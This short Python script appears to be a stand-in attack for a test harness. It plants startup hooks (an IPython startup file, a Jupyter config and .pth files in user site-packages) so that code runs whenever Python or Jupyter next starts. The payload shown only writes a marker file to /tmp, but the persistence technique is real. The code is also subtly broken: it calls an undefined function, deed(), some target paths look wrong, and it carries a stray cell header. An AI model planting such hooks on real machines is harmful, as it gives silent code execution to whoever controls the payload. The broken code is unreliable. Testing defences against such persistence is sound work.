# Writes files that Python, IPython, Jupyter and shells run at their next start, in the home folder.
# %% from attacks/parts/stand_ins.py
# %% relu
import site
from pathlib import Path

line = "open('/tmp/referee-attack-startup', 'w').write('ran')\n"


def attack():
    home, written = Path.home(), []
    for path in (
        home / ".ipython/profile_default/startup/referee-attack.py",
        home / ".jupyter/referee-attack/jupyter_config.py",
        home / ".config/referee-attack.pth",
        Path(site.getusersitepackages()) / "referee-attack.pth",
    ):
        try:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(line if path.suffix != ".pth" else f"import builtins; {line}")
            written.append(str(path))
        except OSError as error:
            written.append(f"{path}: {type(error).__name__}")
        deed()
    return written


print(attack())
